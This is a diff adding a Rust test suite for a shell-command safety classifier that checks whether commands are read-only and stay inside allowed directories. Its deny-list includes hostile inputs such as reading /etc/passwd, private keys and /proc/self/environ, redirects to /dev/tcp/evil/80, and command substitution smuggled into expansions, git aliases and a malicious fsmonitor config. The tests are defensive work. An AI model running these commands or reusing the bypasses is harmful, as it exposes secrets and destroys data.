@@ -1,0 +1,485 @@
+use proptest::prelude::*;
+use rondo_exec::AllowedDirs;
+use rondo_exec::analysis::{COMMAND_BYTES_MAX, Judgement, NESTING_MAX, judge};
+use std::fs;
+use std::os::unix::fs::symlink;
+use std::path::Path;
+use std::process::Command;
+use tempfile::TempDir;
+
+/// A project with a repository, next to something private.
+struct Place {
+    root: TempDir,
+}
+
+impl Place {
+    fn new() -> Self {
+        let root = tempfile::tempdir().unwrap();
+        let project = root.path().join("project");
+        fs::create_dir_all(project.join("src")).unwrap();
+        fs::create_dir(project.join("links")).unwrap();
+        fs::create_dir(root.path().join("private")).unwrap();
+        fs::write(root.path().join("private/key"), "secret").unwrap();
+        fs::write(project.join("README.md"), "x").unwrap();
+        fs::write(project.join("src/a.rs"), "x").unwrap();
+        symlink("../../private", project.join("links/out")).unwrap();
+        symlink("../README.md", project.join("links/in")).unwrap();
+        symlink("/nonexistent/x", project.join("links/dangling")).unwrap();
+        let made = Command::new("git")
+            .args(["init", "-q"])
+            .current_dir(&project)
+            .env("GIT_CONFIG_GLOBAL", "/dev/null")
+            .status()
+            .unwrap();
+        assert!(made.success());
+        Self { root }
+    }
+
+    fn dirs(&self) -> AllowedDirs {
+        AllowedDirs::new(&self.project(), &[]).unwrap()
+    }
+
+    fn project(&self) -> std::path::PathBuf {
+        self.root.path().join("project")
+    }
+}
+
+const READ_ONLY: &[&str] = &[
+    "ls",
+    "ls -la src",
+    "ls -l --color=never | wc -l",
+    "cat README.md",
+    "cat 'README.md' \"src/a.rs\" src/../README.md",
+    "cat links/in",
+    "head -n 20 README.md",
+    "head -5 README.md; tail -c 10 README.md",
+    "wc -l src/*.rs",
+    "ls *.md",
+    "sort -k2,2n README.md | uniq -c | sort -rn | head",
+    "cut -d: -f1 README.md",
+    "cut -d ' ' -f 2 README.md",
+    "tr a-z A-Z < README.md",
+    "stat -c %s README.md",
+    "du -sh src",
+    "file README.md",
+    "pwd",
+    "echo hello world",
+    "echo \"$HOME and $(pwd)\"",
+    "echo `pwd`",
+    "echo $((1 + 2))",
+    "true && echo yes || echo no",
+    "test -f README.md && echo there",
+    "[ -d src ]",
+    "if [ -f README.md ]; then cat README.md; else echo none; fi",
+    "(ls; pwd)",
+    "{ ls; pwd; }",
+    "! grep -q x README.md",
+    "find . -name '*.rs' -type f",
+    "find src -maxdepth 2 \\( -name '*.rs' -o -name '*.toml' \\) -print",
+    "find . -name '*.rs' -printf '%s %p\\n' | sort -n | tail -1",
+    "grep -rn 'fn main' src",
+    "grep -E 'a|b$' README.md",
+    "grep \"foo$\" README.md",
+    "grep '/usr/bin' README.md",
+    "grep -e x -e y README.md 2>/dev/null",
+    "grep -c x README.md > /dev/null 2>&1",
+    "rg -n --glob '*.rs' main src",
+    "rg --files src",
+    "rg TODO",
+    "LC_ALL=C sort README.md",
+    "git status",
+    "git status --short -b",
+    "git log --oneline -n 5",
+    "git log -3 --stat -- src",
+    "git --no-pager diff HEAD~1",
+    "git diff --cached --name-only",
+    "git show HEAD:README.md",
+    "git log main..dev --format='%h %s'",
+    "cat <<'EOF'\nhello $x\nEOF",
+    "cat <<EOF\nhello\nEOF",
+    "cat -- README.md",
+    "cat not-there-yet",
+    "ls /dev/null",
+];
+
+const NOT_READ_ONLY: &[&str] = &[
+    // Programs.
+    "rm README.md",
+    "/bin/ls",
+    "./ls",
+    "r''m x",
+    "\\rm x",
+    "$CMD x",
+    "$(echo rm) x",
+    "`echo rm` x",
+    "command rm x",
+    "env ls",
+    "sudo ls",
+    "xargs rm < README.md",
+    "find . -exec rm {} +",
+    "find . -delete",
+    "find . -fprint out",
+    "find . -fls out",
+    "find . -okdir rm {} +",
+    "find -L . -name x",
+    "find /etc -name passwd",
+    "find . -newer /etc/passwd",
+    "find . -files0-from x",
+    "sort -o out README.md",
+    "sort -ro out README.md",
+    "sort --output=out README.md",
+    "sort --outp=out README.md",
+    "sort --compress-program=evil README.md",
+    "sort -T /etc README.md",
+    "sort --files0-from=x",
+    "uniq README.md out",
+    "tail -f README.md",
+    "rg --pre evil x",
+    "rg --pre=evil x",
+    "rg -z x",
+    "rg --hostname-bin=evil x",
+    "rg --files /etc",
+    "rg -L x",
+    "rg -f /etc/passwd",
+    "grep -f /etc/passwd README.md",
+    "grep -R x .",
+    "grep -e x /etc/passwd",
+    "grep x -e y /etc/passwd",
+    "grep -A 3 x /etc/passwd",
+    "file -C -m magic",
+    "file -f README.md",
+    "file -z README.md",
+    "wc --files0-from=x",
+    "du --files0-from=x",
+    "tee out < README.md",
+    "sed -n 1p README.md",
+    "awk 'BEGIN{system(\"id\")}'",
+    "printf -v PATH x",
+    "read x",
+    "cd ..",
+    "eval ls",
+    "exec ls",
+    ". README.md",
+    "source README.md",
+    "export A=b",
+    "alias ls=rm",
+    "set -x",
+    "shopt -s expand_aliases",
+    "hash -p /tmp/evil ls",
+    "enable -f evil.so ls",
+    "trap 'rm x' EXIT",
+    "time rm x",
+    "time ls",
+    // The shape of the command.
+    "ls; rm x",
+    "ls && rm x",
+    "ls || rm x",
+    "ls | rm x",
+    "ls & rm x",
+    "ls &",
+    "ls\nrm x",
+    "(rm x)",
+    "{ rm x; }",
+    "if rm x; then ls; fi",
+    "if ls; then rm x; fi",
+    "if ls; then ls; elif rm x; then ls; fi",
+    "while rm x; do ls; done",
+    "for PATH in /tmp; do ls; done",
+    "for f in *; do cat $f; done",
+    "case x in x) rm x;; esac",
+    "case $(rm x) in *) ls;; esac",
+    "case x in $(rm x)) ls;; esac",
+    "ls() { rm x; }; ls",
+    "function ls { rm x; }; ls",
+    "coproc rm x",
+    "select x in a; do ls; done",
+    "[[ $(rm x) ]]",
+    "[[ -v 'a[$(rm x)]' ]]",
+    "[[ 'a[$(rm x)]' -eq 1 ]]",
+    "test -v 'a[$(rm x)]'",
+    "[ -v 'a[$(rm x)]' ]",
+    "[ -R x ]",
+    "((x=1))",
+    "((a[$(rm x)]))",
+    "echo $((a[$(rm x)]))",
+    "echo $[ $(rm x) ]",
+    "for ((;;)); do ls; done",
+    // Words.
+    "echo $(rm x)",
+    "echo `rm x`",
+    "echo \"`rm x`\"",
+    "echo \"$(rm x)\"",
+    "echo \"$(echo \"$(rm x)\")\"",
+    "echo `echo \\`rm x\\``",
+    "echo ${x:-$(rm x)}",
+    "echo \"${x:-$(rm x)}\"",
+    "echo ${x:-`rm x`}",
+    "echo ${x/../`rm x`}",
+    "echo ${x^^$(rm x)}",
+    "echo ${x:$(rm x)}",
+    "echo ${x[$(rm x)]}",
+    "echo ${!x}",
+    "echo ${x@P}",
+    "echo ${x:=y}",
+    "echo $SECRET",
+    "echo $'\\x41'",
+    "echo $\"x\"",
+    "echo <(rm x)",
+    "cat <(rm x)",
+    "cat >(rm x)",
+    "cat <<EOF\n$(rm x)\nEOF",
+    "cat <<EOF\n`rm x`\nEOF",
+    "cat <<< $(rm x)",
+    "cat <<< \"`rm x`\"",
+    "cat {/etc/passwd,x}",
+    "ls {a,..}",
+    "ls a{,/../..}",
+    // Redirections.
+    "echo x > out",
+    "echo x >> out",
+    "echo x >| out",
+    "echo x > /dev/null/../out",
+    "echo x >& out",
+    "echo x &> out",
+    "echo x &>> out",
+    "> out",
+    ": > out",
+    "echo x 2> out",
+    "echo x > $F",
+    "echo x > /dev/nul*",
+    "cat <> out",
+    "cat < /etc/passwd",
+    "cat < ../private/key",
+    "cat < /dev/tcp/evil/80",
+    "echo x > /dev/tcp/evil/80",
+    "{ ls; } > out",
+    "(ls) > out",
+    "if ls; then ls; fi > out",
+    // Assignments.
+    "PATH=/tmp ls",
+    "PATH=/tmp; ls",
+    "LD_PRELOAD=x ls",
+    "GIT_PAGER=evil git log",
+    "GIT_EXTERNAL_DIFF=evil git diff",
+    "LC_ALL=$(rm x) ls",
+    "LANG+=x ls",
+    "x=1",
+    "x[$(rm x)]=1",
+    "x=($(rm x))",
+    // Paths.
+    "cat /etc/passwd",
+    "cat ../private/key",
+    "cat src/../../private/key",
+    "cat links/out/key",
+    "cat links/dangling",
+    "cat links/*",
+    "cat */key",
+    "cat l*/out/key",
+    "cat ~/x",
+    "cat ~root/x",
+    "cat ~+/../private/key",
+    "cat $HOME/x",
+    "cat \"$PWD/../private/key\"",
+    "cat $(echo /etc/passwd)",
+    "cat missing/../../private/key",
+    "cat /proc/self/environ",
+    "cat /proc/self/root/etc/passwd",
+    "ls ..",
+    "ls /",
+    "echo /*",
+    "echo ../*",
+    "test -f /etc/passwd",
+    "stat /etc",
+    "cat -- -x /etc/passwd",
+    // git.
+    "git",
+    "git push",
+    "git commit -m x",
+    "git -c alias.x='!rm x' x",
+    "git -c core.pager=evil log",
+    "git -C .. status",
+    "git --git-dir=../x status",
+    "git --exec-path=. status",
+    "git log --output=out",
+    "git diff --output out",
+    "git diff -Oorder",
+    "git diff --ext-diff",
+    "git log --textconv",
+    "git show --textconv HEAD:x",
+    "git diff --no-index /etc/passwd README.md",
+    "git diff /etc/passwd /etc/group",
+    "git log --show-signature",
+    "git log --format=%G?",
+    "git --paginate log",
+    "git -p log",
+    "git grep -O x",
+    "git branch -D x",
+    "git stash",
+    "git $X",
+    "git status $X",
+    // What parsers disagree about.
+    "ls # comment\nrm x",
+    "echo a;#b\nrm x",
+    "ls \\\n-la",
+    "ls\u{a0}x",
+    "ls\rrm x",
+    "ls \u{202e}x",
+    "ls\0",
+    "ls '",
+    "ls \"",
+    "ls $(",
+    "ls )",
+    "ls `",
+    "cat <<EOF",
+    "cat <<$(rm x)\nx\n$(rm x)",
+    "if ls; then",
+    "ls ;; ls",
+    "echo \"$(case x in x) rm x;; esac)\"",
+    "echo @(a|b)",
+    "ls !(x)",
+];
+
+#[test]
+fn what_only_looks_is_told() {
+    let place = Place::new();
+    let asked: Vec<_> = READ_ONLY
+        .iter()
+        .map(|command| (command, judge(command, &place.dirs())))
+        .filter(|(_, judgement)| *judgement != Judgement::ReadOnly)
+        .collect();
+    assert_eq!(asked, []);
+}
+
+#[test]
+fn what_may_do_more_is_never_taken_for_looking() {
+    let place = Place::new();
+    assert!(NOT_READ_ONLY.len() >= 80);
+    for command in NOT_READ_ONLY {
+        assert_ne!(
+            judge(command, &place.dirs()),
+            Judgement::ReadOnly,
+            "{command}"
+        );
+    }
+}
+
+#[test]
+fn effects_name_the_programs() {
+    let place = Place::new();
+    let judged = |command: &str| match judge(command, &place.dirs()) {
+        Judgement::Effects { commands, .. } => commands,
+        other => panic!("{command}: {other:?}"),
+    };
+    assert_eq!(judged("ls && /bin/rm x"), ["ls", "rm"]);
+    assert!(judged("find . -exec r\"m\" {} +").contains(&"rm".to_owned()));
+    assert!(judged("bash -c 'r\"\"m x; sudo y'").contains(&"rm".to_owned()));
+    assert!(judged("echo 'rm x' | bash").contains(&"rm".to_owned()));
+    assert!(judged("echo $(sudo x)").contains(&"sudo".to_owned()));
+}
+
+#[test]
+fn length_and_nesting_are_bounded() {
+    let place = Place::new();
+    let echo = |length: usize| format!("echo {}", "x".repeat(length - 5));
+    for (length, fits) in [
+        (COMMAND_BYTES_MAX - 1, true),
+        (COMMAND_BYTES_MAX, true),
+        (COMMAND_BYTES_MAX + 1, false),
+    ] {
+        let is_read_only = judge(&echo(length), &place.dirs()) == Judgement::ReadOnly;
+        assert_eq!(is_read_only, fits, "{length}");
+    }
+    for command in [
+        format!("{}ls{}", "(".repeat(4000), ")".repeat(4000)),
+        format!("{}ls{}", "( ".repeat(NESTING_MAX), ")".repeat(NESTING_MAX)),
+        format!("{}ls{}", "echo $(".repeat(1000), ")".repeat(1000)),
+        "if ls; then ".repeat(600),
+        "{ ".repeat(2000),
+        "[[ ( ".repeat(500),
+        "`".repeat(4000),
+        "<<a ".repeat(1000),
+        "${a:-".repeat(1000),
+        "while ".repeat(1000),
+    ] {
+        assert_ne!(judge(&command, &place.dirs()), Judgement::ReadOnly);
+    }
+}
+
+#[test]
+fn a_repository_that_makes_git_run_programs_is_asked_about() {
+    let place = Place::new();
+    let config = place.project().join(".git/config");
+    let usual = fs::read_to_string(&config).unwrap();
+    assert_eq!(judge("git status", &place.dirs()), Judgement::ReadOnly);
+    fs::write(&config, format!("{usual}[core]\n\tfsmonitor = ./evil\n")).unwrap();
+    assert_ne!(judge("git status", &place.dirs()), Judgement::ReadOnly);
+    fs::write(&config, usual).unwrap();
+    fs::write(place.project().join(".git/hooks/post-index-change"), "").unwrap();
+    assert_ne!(judge("git status", &place.dirs()), Judgement::ReadOnly);
+}
+
+#[test]
+fn a_repository_outside_is_asked_about() {
+    let place = Place::new();
+    let inner = AllowedDirs::new(&place.project().join("src"), &[]).unwrap();
+    assert_ne!(judge("git log", &inner), Judgement::ReadOnly);
+    let bare = place.project().join("bare");
+    let made = Command::new("git")
+        .args(["init", "-q", "--bare"])
+        .arg(&bare)
+        .status();
+    assert!(made.unwrap().success());
+    let in_bare = place.dirs().in_directory(Path::new("bare")).unwrap();
+    assert_ne!(judge("git log", &in_bare), Judgement::ReadOnly);
+}
+
+#[test]
+fn a_name_that_reads_as_an_option_is_never_matched() {
+    let place = Place::new();
+    assert_eq!(judge("sort *", &place.dirs()), Judgement::ReadOnly);
+    fs::write(place.project().join("-oREADME.md"), "").unwrap();
+    assert_ne!(judge("sort *", &place.dirs()), Judgement::ReadOnly);
+    assert_eq!(judge("sort ./*", &place.dirs()), Judgement::ReadOnly);
+}
+
+#[test]
+fn further_directories_can_be_allowed() {
+    let place = Place::new();
+    let private = place.root.path().join("private");
+    let dirs = AllowedDirs::new(&place.project(), std::slice::from_ref(&private)).unwrap();
+    assert_eq!(
+        judge("cat ../private/key links/out/key", &dirs),
+        Judgement::ReadOnly
+    );
+    let outside = place.dirs().in_directory(&private).unwrap();
+    assert_ne!(judge("ls", &outside), Judgement::ReadOnly);
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(400))]
+
+    #[test]
+    fn a_mutated_command_never_panics_and_never_hides_a_removal(
+        which in 0..READ_ONLY.len() + NOT_READ_ONLY.len(),
+        at in 0..200_usize,
+        cut in 0..4_usize,
+        insert in prop::sample::select(vec![
+            "$(", ")", "`", "'", "\"", "\\", "${", "}", "<<E\n", "((", "))", ";", "&", "|", "\n",
+            "#", "~", "{a,b}", "[[", "]]", "$'", "!", "time ", "if ", "fi", "case ", "*", "\u{e4}",
+        ]),
+    ) {
+        let dir = std::env::temp_dir();
+        let dirs = AllowedDirs::new(&dir, &[]).unwrap();
+        let corpus: Vec<_> = READ_ONLY.iter().chain(NOT_READ_ONLY).collect();
+        let chars: Vec<char> = corpus[which].chars().collect();
+        let at = at.min(chars.len());
+        let head: String = chars[..at].iter().collect();
+        let tail: String = chars[(at + cut).min(chars.len())..].iter().collect();
+        let mutated = format!("{head}{insert}{tail}");
+        let judged = judge(&mutated, &dirs);
+        let panicked = Judgement::Unknown { reason: "the parser failed".to_owned() };
+        prop_assert_ne!(judged, panicked);
+        let removal = judge(&format!("{mutated}\nrm -rf x\n"), &dirs);
+        prop_assert_ne!(removal, Judgement::ReadOnly);
+    }
+}
